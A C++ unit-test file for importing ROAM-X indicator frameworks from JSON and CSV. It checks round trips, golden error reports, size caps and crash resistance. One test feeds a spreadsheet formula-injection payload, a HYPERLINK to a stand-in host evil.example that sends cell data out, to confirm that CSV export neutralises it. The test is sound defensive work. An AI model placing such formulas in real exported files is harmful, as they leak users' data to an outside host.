// Framework files as operators write them: the shipped sample in both
// formats, round trips, and golden error reports for a set of bad files
// (tests/frameworks/bad/NAME and the expected report NAME.errors).
//
// To regenerate the expected files after a deliberate change of a message or
// of the sample JSON:
//   KENES_REGENERATE_GOLDEN=1 build/release/server/kenes_server_unit_tests --gtest_filter='FrameworkImport*'
// then review the diff (git diff tests/frameworks consultation/frameworks).

#include "consultation/framework_import.h"
#include "consultation/csv.h"

#include <google/protobuf/util/message_differencer.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace kenes::consultation {
namespace {

namespace fs = std::filesystem;
using google::protobuf::util::MessageDifferencer;

const fs::path kSource = KENES_SOURCE_DIR;

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

bool regenerate() { return std::getenv("KENES_REGENERATE_GOLDEN") != nullptr; }

// Compares `actual` with the committed file, or rewrites the file.
void expect_golden(const fs::path& path, const std::string& actual) {
  if (regenerate()) {
    std::ofstream(path, std::ios::binary) << actual;
    return;
  }
  ASSERT_TRUE(fs::exists(path)) << path << " is missing; run with KENES_REGENERATE_GOLDEN=1";
  EXPECT_EQ(read_file(path), actual) << "differs from " << path;
}

std::string report(const FrameworkImport& imported) {
  std::string out;
  for (const auto& e : imported.errors) out += e.to_string() + "\n";
  if (imported.more_errors) out += "... and " + std::to_string(imported.more_errors) + " more errors\n";
  for (const auto& w : imported.warnings) out += "warning: " + w.to_string() + "\n";
  return out;
}

TEST(FrameworkImportTest, TheSampleJsonImportsWithoutAnyIssue) {
  auto imported = import_framework_json(read_file(kSource / "consultation/frameworks/roamx-2019-sample.json"));
  ASSERT_TRUE(imported.ok()) << report(imported);
  EXPECT_TRUE(imported.warnings.empty()) << report(imported);
  // The real structure: C, R, O, A, M, X and the 25 themes of R, O, A, M, X
  // (6 + 5 + 6 + 3 + 5) as UNESCO published them, plus C's six groups.
  std::string ids;
  for (const auto& c : imported.framework->categories()) ids += c.id() + ":" + std::to_string(c.themes_size()) + " ";
  EXPECT_EQ(ids, "C:6 R:6 O:5 A:6 M:3 X:5 ");
  EXPECT_NE(imported.framework->source().find("ISBN 978-92-3-100314-1"), std::string::npos);
}

TEST(FrameworkImportTest, TheSampleCsvIsTheSampleJsonWrittenAsCsvAndLoadsToTheSameFramework) {
  auto json = import_framework_json(read_file(kSource / "consultation/frameworks/roamx-2019-sample.json"));
  ASSERT_TRUE(json.ok()) << report(json);
  expect_golden(kSource / "consultation/frameworks/roamx-2019-sample.csv", framework_to_csv(*json.framework));
  auto csv = import_framework_csv(read_file(kSource / "consultation/frameworks/roamx-2019-sample.csv"));
  ASSERT_TRUE(csv.ok()) << report(csv);
  EXPECT_TRUE(MessageDifferencer::Equals(*json.framework, *csv.framework))
      << json.framework->DebugString() << "\n---\n" << csv.framework->DebugString();
}

TEST(FrameworkImportTest, EveryBadFileGivesItsGoldenErrorReportAndNoFramework) {
  int files = 0;
  for (const auto& entry : fs::directory_iterator(kSource / "tests/frameworks/bad")) {
    fs::path path = entry.path();
    if (path.extension() == ".errors") continue;
    ++files;
    SCOPED_TRACE(path.filename().string());
    auto imported = import_framework(path.filename().string(), read_file(path));
    EXPECT_FALSE(imported.ok());
    EXPECT_FALSE(imported.errors.empty());
    expect_golden(path.string() + ".errors", report(imported));
  }
  EXPECT_GE(files, 10);
}

kenes::v1::Framework awkward_framework() {
  kenes::v1::Framework fw;
  fw.set_edition("Edition, with \"quotes\"");
  fw.set_source("Line one\nline two");
  auto* c = fw.add_categories();
  c->set_id("R");
  c->set_title("Права человека");
  c->add_themes()->set_id("R.0");  // a theme without questions
  c->mutable_themes(0)->set_title("Empty theme");
  auto* t = c->add_themes();
  t->set_id("R.A");
  t->set_title("Қазақ тілі, \"quoted\"");
  auto* q0 = t->add_questions();
  q0->set_id("R.A.0");
  q0->set_title("A question without indicators");
  auto* q = t->add_questions();
  q->set_id("R.A.1");
  q->set_title("Q 👍");
  auto* i = q->add_indicators();
  i->set_id("R.1");
  i->set_title("Multi\r\nline, title");
  i->set_core(true);
  i->add_sources("Law, 2019");
  i->add_sources("\"Courts\"");
  auto* j = q->add_indicators();
  j->set_id("R.2");
  j->set_title("No sources");
  auto* empty = fw.add_categories();
  empty->set_id("X");
  empty->set_title("A category without themes");
  return fw;
}

TEST(FrameworkImportTest, CsvRoundTripKeepsQuotesCommasLineBreaksUnicodeAndEmptyBranches) {
  auto fw = awkward_framework();
  std::string csv = framework_to_csv(fw);
  auto back = import_framework_csv(csv);
  ASSERT_TRUE(back.ok()) << report(back) << csv;
  EXPECT_TRUE(MessageDifferencer::Equals(fw, *back.framework)) << csv << "\n" << back.framework->DebugString();
}

// A value a spreadsheet would run as a formula is written as text (an
// apostrophe, quoted) and reads back as it was.
TEST(FrameworkImportTest, CsvNeutralisesFormulasAndReadsThemBack) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"click me\"\")\"");
  for (const char* v : {"+1", "-2", "@SUM(A1)", "\tx", "\rx"}) {
    std::string field = csv_field(v);
    EXPECT_EQ(field, "\"'" + std::string(v) + "\"") << v;
    EXPECT_EQ(csv_unneutralise(field.substr(1, field.size() - 2)), v);
  }
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a-b"), "a-b");
  EXPECT_EQ(csv_field("'=x"), "\"''=x\"");  // already looks neutralised: one more apostrophe
  EXPECT_EQ(csv_unneutralise("''=x"), "'=x");

  auto fw = awkward_framework();
  fw.mutable_categories(0)->set_title("=1+1");
  auto* theme = fw.mutable_categories(0)->mutable_themes(1);
  theme->set_title("@cmd");
  auto* ind = theme->mutable_questions(1)->mutable_indicators(0);
  ind->set_title("-minus");
  ind->add_sources("+plus");
  ind->add_sources("'=quoted");
  theme->mutable_questions(1)->mutable_indicators(1)->add_sources("''+first");  // at the start of its field
  std::string csv = framework_to_csv(fw);
  EXPECT_EQ(csv.find(",=1+1"), std::string::npos) << csv;
  auto back = import_framework_csv(csv);
  ASSERT_TRUE(back.ok()) << report(back) << csv;
  EXPECT_TRUE(MessageDifferencer::Equals(fw, *back.framework)) << csv << "\n" << back.framework->DebugString();
}

TEST(FrameworkImportTest, CsvAcceptsABomCrlfColumnsInAnyOrderAndBlankRepeatedTitles) {
  std::string csv =
      "\xEF\xBB\xBF"
      "edition,E\r\n"
      "\r\n"
      "indicator_id,core,sources,indicator_title,question_id,question_title,theme_id,theme_title,category_id,"
      "category_title\r\n"
      "R.1,Yes, a ;; b ,One,R.A.1,Q,R.A,Theme,R,Rights\r\n"
      "R.2,0,,Two,R.A.1,,R.A,,R,\r\n";
  auto imported = import_framework_csv(csv);
  ASSERT_TRUE(imported.ok()) << report(imported);
  const auto& q = imported.framework->categories(0).themes(0).questions(0);
  ASSERT_EQ(q.indicators_size(), 2);
  EXPECT_TRUE(q.indicators(0).core());
  EXPECT_EQ(q.indicators(0).sources_size(), 2);
  EXPECT_EQ(q.indicators(0).sources(1), "b");
  EXPECT_FALSE(q.indicators(1).core());
  EXPECT_EQ(imported.warnings.size(), 1u);  // no source cited
}

TEST(FrameworkImportTest, FormatIsDetectedByExtensionThenByContent) {
  EXPECT_EQ(detect_framework_format("a.JSON", "edition,E"), FrameworkFormat::kJson);
  EXPECT_EQ(detect_framework_format("a.csv", "{"), FrameworkFormat::kCsv);
  EXPECT_EQ(detect_framework_format("framework.txt", " \n\xEF\xBB\xBF{}"), FrameworkFormat::kCsv);
  EXPECT_EQ(detect_framework_format("framework.txt", "\xEF\xBB\xBF \n{}"), FrameworkFormat::kJson);
  EXPECT_EQ(detect_framework_format("-", "edition,E"), FrameworkFormat::kCsv);
}

TEST(FrameworkImportTest, ErrorsStopAtTheCapAndTheRestAreCounted) {
  std::string csv =
      "edition,E\ncategory_id,category_title,theme_id,theme_title,question_id,question_title,indicator_id,"
      "indicator_title,core,sources\n";
  for (int i = 0; i < 70; ++i) csv += "R,Rights,R.A,T,R.A.1,Q,R." + std::to_string(i) + ",Title,perhaps,\n";
  auto imported = import_framework_csv(csv);
  EXPECT_FALSE(imported.ok());
  EXPECT_EQ(imported.errors.size(), kMaxFrameworkErrors);
  EXPECT_EQ(imported.more_errors, 70 - kMaxFrameworkErrors);
  EXPECT_EQ(imported.errors[0].to_string(), "line 3, column core: \"perhaps\" is not yes/no, true/false or 1/0");
}

TEST(FrameworkImportTest, TooLargeFilesAreRefusedBeforeParsing) {
  std::string big(kMaxFrameworkFileBytes + 1, ' ');
  for (auto imported : {import_framework_json(big), import_framework_csv(big)}) {
    ASSERT_EQ(imported.errors.size(), 1u);
    EXPECT_EQ(imported.errors[0].to_string(), "the file has 4194305 bytes; a framework file may have at most 4194304");
  }
}

TEST(FrameworkImportTest, DeepNestingIsASyntaxErrorNotACrash) {
  std::string deep(100000, '[');
  auto imported = import_framework_json(deep);
  ASSERT_FALSE(imported.ok());
  EXPECT_EQ(imported.errors[0].where.rfind("line 1, column ", 0), 0u) << report(imported);
}

}  // namespace
}  // namespace kenes::consultation
